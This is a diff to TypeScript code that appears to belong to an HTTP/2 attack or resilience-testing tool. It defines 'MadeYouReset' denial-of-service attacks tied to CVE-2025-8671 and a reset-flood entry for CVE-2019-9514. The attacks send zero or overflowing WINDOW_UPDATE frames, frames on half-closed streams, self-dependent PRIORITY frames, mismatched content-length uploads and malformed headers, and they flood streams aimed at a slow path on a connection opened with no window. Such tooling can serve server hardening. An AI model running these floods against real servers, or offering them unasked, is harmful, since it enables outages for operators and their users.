@@ -39,20 +39,23 @@ function resets(
   }
 }
 
-/** A form of MadeYouReset: the client's fault makes the server reset the stream. */
+/** A form of MadeYouReset: the client's fault makes the server reset a stream whose handler works. */
 function madeYouReset(
   form: string,
   sends: string,
-  fault: (host: Hostile) => (streamId: number) => readonly Octets[],
+  fault: (streamId: number, request: Octets) => readonly Octets[],
 ): Attack {
-  return resets(`made-you-reset-${form}`, 'CVE-2025-8671', sends, fault)
-}
-
-/** A fault behind a whole request. */
-function afterRequest(fault: (streamId: number) => Octets) {
-  return (host: Hostile) => {
-    const block = host.request()
-    return (streamId: number) => [headers(streamId, block), fault(streamId)]
+  return {
+    name: `made-you-reset-${form}`,
+    advisory: 'CVE-2025-8671',
+    sends,
+    async run(host) {
+      // Where handlers don't wait, the response does, for a window.
+      const connection = await host.open({ window: 'none' })
+      const request = host.request(host.slowPath)
+      const make = (streamId: number) => [headers(streamId, request), ...fault(streamId, request)]
+      await floodOfStreams(host, connection, make, BELOW)
+    },
   }
 }
 
@@ -86,48 +89,53 @@ export const RESETS: readonly Attack[] = [
     },
     { needs: ['application', 'waiting-handlers'] },
   ),
-  madeYouReset(
-    'window-zero',
-    'Requests, each followed by WINDOW_UPDATE of 0.',
-    afterRequest((streamId) => windowUpdate(streamId, 0)),
-  ),
+  madeYouReset('window-zero', 'Requests, each followed by WINDOW_UPDATE of 0.', (streamId) => [
+    windowUpdate(streamId, 0),
+  ]),
   madeYouReset(
     'window-overflow',
     'Requests, each followed by a WINDOW_UPDATE beyond the largest window.',
-    afterRequest((streamId) => windowUpdate(streamId, LARGEST_WINDOW)),
+    (streamId) => [windowUpdate(streamId, 1), windowUpdate(streamId, LARGEST_WINDOW)],
   ),
   madeYouReset(
     'headers-after-end',
     'Requests, each followed by HEADERS on its half-closed stream.',
-    (host) => {
-      const block = host.request()
-      return (streamId) => [headers(streamId, block), headers(streamId, block)]
-    },
+    (streamId, request) => [headers(streamId, request)],
   ),
   madeYouReset(
     'data-after-end',
     'Requests, each followed by DATA on its half-closed stream.',
-    afterRequest((streamId) => data(streamId, Uint8Array.of(1))),
+    (streamId) => [data(streamId, Uint8Array.of(1))],
   ),
   madeYouReset(
     'priority-length',
     'Requests, each followed by PRIORITY of four octets.',
-    afterRequest((streamId) => anyFrame(2, 0, streamId, new Uint8Array(4))),
+    (streamId) => [anyFrame(2, 0, streamId, new Uint8Array(4))],
   ),
   madeYouReset(
     'priority-self',
     'Requests, each followed by PRIORITY that depends on itself.',
-    afterRequest((streamId) => priority(streamId, streamId)),
+    (streamId) => [priority(streamId, streamId)],
   ),
-  madeYouReset('content-length', 'Uploads with more DATA than `content-length` says.', (host) => {
-    const block = host.request('/', 'POST', [['content-length', '1']])
-    const body = new Uint8Array(2)
-    return (streamId) => [headers(streamId, block, { end: false }), data(streamId, body, true)]
-  }),
-  madeYouReset('malformed', 'Requests with an upper-case field name.', (host) => {
-    const block = joined([host.request(), literal('Upper', 'case')])
-    return (streamId) => [headers(streamId, block)]
-  }),
+  resets(
+    'made-you-reset-content-length',
+    'CVE-2025-8671',
+    'Uploads with more DATA than `content-length` says.',
+    (host) => {
+      const block = host.request(host.slowPath, 'POST', [['content-length', '1']])
+      const body = new Uint8Array(2)
+      return (streamId) => [headers(streamId, block, { end: false }), data(streamId, body, true)]
+    },
+  ),
+  resets(
+    'malformed-requests',
+    'CVE-2025-8671',
+    'Requests with an upper-case field name.',
+    (host) => {
+      const block = joined([host.request(), literal('Upper', 'case')])
+      return (streamId) => [headers(streamId, block)]
+    },
+  ),
   {
     name: 'reset-flood-unread',
     advisory: 'CVE-2019-9514',
